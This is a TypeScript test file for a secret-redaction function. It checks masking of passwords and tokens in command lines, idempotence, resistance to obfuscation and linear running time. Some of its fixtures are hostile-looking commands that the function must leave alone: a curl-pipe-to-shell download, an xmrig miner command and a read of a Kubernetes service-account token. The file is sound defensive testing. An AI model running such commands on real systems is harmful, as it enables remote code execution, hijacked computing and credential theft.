import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { growth, IN_PROPORTION } from '../../test/growth.ts';
import { SECRETS } from '../../test/stories/secrets.ts';
import { cleanText } from './clean.ts';
import { redactSecrets } from './secrets.ts';

const HEX = '0a1b2c3d4e5f60718293a4b5c6d7e8f9';

describe('redactSecrets', () => {
  it.each(SECRETS)('replaces $kind wherever it stands', ({ core, text }) => {
    fc.assert(
      fc.property(
        fc.constantFrom('', 'run ', '"', '(', '\n', 'a: '),
        fc.constantFrom('', ' now', '"', '\n', ') and so on'),
        (before, after) => {
          const redacted = redactSecrets(`${before}${text}${after}`);
          expect(redacted).not.toContain(core);
          expect(redacted).toContain('[secret]');
        },
      ),
      { numRuns: 30 },
    );
  });

  it('changes nothing the second time - a text may pass through it on its way more than once', () => {
    for (const { text } of SECRETS) {
      const once = redactSecrets(text);
      expect(redactSecrets(once)).toBe(once);
    }
  });

  it.each([
    ['curl -H "Authorization: Bearer abcdefgh12345678" x', 'curl -H "Authorization: Bearer [secret]" x'],
    ['mysql --password hunter22 -h db', 'mysql --password [secret] -h db'],
    ['DB_PASSWORD=hunter22 ./run', 'DB_PASSWORD=[secret] ./run'],
    ['{"api_key": "abc def"}', '{"api_key": [secret]}'],
    ['git clone https://bot:hunter22@git.example.com/x', 'git clone https://bot:[secret]@git.example.com/x'],
    ['AWS_SECRET_ACCESS_KEY=abcd/efgh+1', 'AWS_SECRET_ACCESS_KEY=[secret]'],
    ['curl -u admin:hunter22 x', 'curl -u admin:[secret] x'],
    ['curl -u a:hunter22 x curl -u b:hunter33 y', 'curl -u a:[secret] x curl -u b:[secret] y'],
  ])('keeps the words that say what kind of secret was there: %s', (text, expected) => {
    expect(redactSecrets(text)).toBe(expected);
  });

  it('finds a secret that was hidden with zero-width characters or full-width letters', () => {
    const secret = ['xoxb', '000000000000', 'inventedInvented'].join('-');
    expect(cleanText([...secret].join('\u200b'))).toContain('[secret]');
    expect(cleanText(`ｐａｓｓｗｏｒｄ=hunter22`)).toBe('password=[secret]');
  });

  it.each([
    ['an image digest', `111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout@sha256:${HEX}${HEX}`],
    ['an MD5 sum', `md5 ${HEX}`],
    ['a SHA-1 sum', `sha1 ${HEX}01234567`],
    ['a SHA-256 sum beside a secret', `[secret] ${HEX}${HEX}`],
    ['a commit id', `commit ${HEX}89abcdef`],
    ['a commit id beside a secret', `[secret] at commit ${HEX}89abcdef`],
    ['a container id', `container ${HEX}${HEX}`],
    ['a uid', 'uid 5e1f0c9a-7f3b-4d6e-9a51-0c1d2e3f4a5b'],
    ['a CVE', 'CVE-2021-44228 in log4j-core 2.14.1'],
    ['an ARN', 'arn:aws:iam::111122223333:role/checkout'],
    ['a user and group by number', 'docker run -u 1000:1000 -p 8080:80 nginx:1.27.0'],
    ['a wallet’s pool', '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 -u worker -p x'],
    ['a download', 'sh -c curl -fsSL http://203.0.113.7/x.sh | sh'],
    ['the path of a token', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['the name of a secret', 'secretName=checkout-db secretKeyRef'],
    ['where somebody stands', 'PWD=/app OLDPWD=/srv'],
    ['prose about authentication', 'Basic authentication and bearer authentication are off, the token is mounted'],
    ['a time', '2025-10-14T09:15:50.000Z'],
    ['an address of the sixth version', 'http://[2001:db8::1]:8080/x'],
    ['an MITRE id', 'T1552.001 and TA0006'],
  ])('leaves %s alone - it is what analysts read', (_name, text) => {
    expect(redactSecrets(text)).toBe(text);
  });

  it.each([
    ['-eyJ'],
    ['password'],
    ['://a:'],
    ['-----BEGIN PRIVATE KEY-----'],
    ['Bearer '],
    ['token = '],
    ['curl -u '],
    ['mysql -p'],
    ['Cookie: a=b; c='],
    ['[secret] '],
    ['sk-'],
    ['LS0tLS1CRUdJTi'],
    ['a'],
    ['A0+/'],
  ])('takes time in proportion to a flood of %j', (piece) => {
    expect(growth((size) => redactSecrets(piece.repeat(size)))).toBeLessThan(IN_PROPORTION);
  });
});
